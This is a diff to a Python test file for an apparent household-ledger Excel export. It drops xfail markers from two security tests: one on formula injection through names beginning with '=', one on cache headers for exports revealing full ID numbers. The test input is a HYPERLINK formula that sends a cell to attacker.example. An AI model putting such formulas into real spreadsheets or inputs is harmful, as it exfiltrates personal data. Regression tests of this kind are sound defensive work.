@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import io
 
-import pytest
 from openpyxl import load_workbook
 
 from tests.conftest import Api
@@ -15,10 +14,6 @@ from tests.seed import KEY_VILLAGE
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
 
 
-@pytest.mark.xfail(strict=True, reason="text that starts with '=' (a head of household's or a person's name, "
-                                       "typed by a surveyor or imported) is written by openpyxl as a formula: "
-                                       "the county's ledger export opens with a live HYPERLINK/WEBSERVICE that "
-                                       "can send cells (with --reveal, full ID numbers) to another site")
 async def test_a_name_that_looks_like_a_formula_is_exported_as_text(api: Api) -> None:
     await create(api, head_name=FORMULA)
     response = await api.get("/api/ledger/export", "admin_a", params={"village_code": KEY_VILLAGE})
@@ -29,9 +24,6 @@ async def test_a_name_that_looks_like_a_formula_is_exported_as_text(api: Api) ->
     assert formulas == []
 
 
-@pytest.mark.xfail(strict=True, reason="GET /api/ledger/export?reveal=true answers a workbook of full ID numbers and "
-                                       "phones without Cache-Control: no-store (POST /api/people/{id}/reveal and a "
-                                       "password reset carry it), so a browser or proxy cache may keep it")
 async def test_a_revealed_ledger_is_never_cached(api: Api) -> None:
     await create(api)
     response = await api.get("/api/ledger/export", "admin_a", params={"village_code": KEY_VILLAGE, "reveal": "true"})
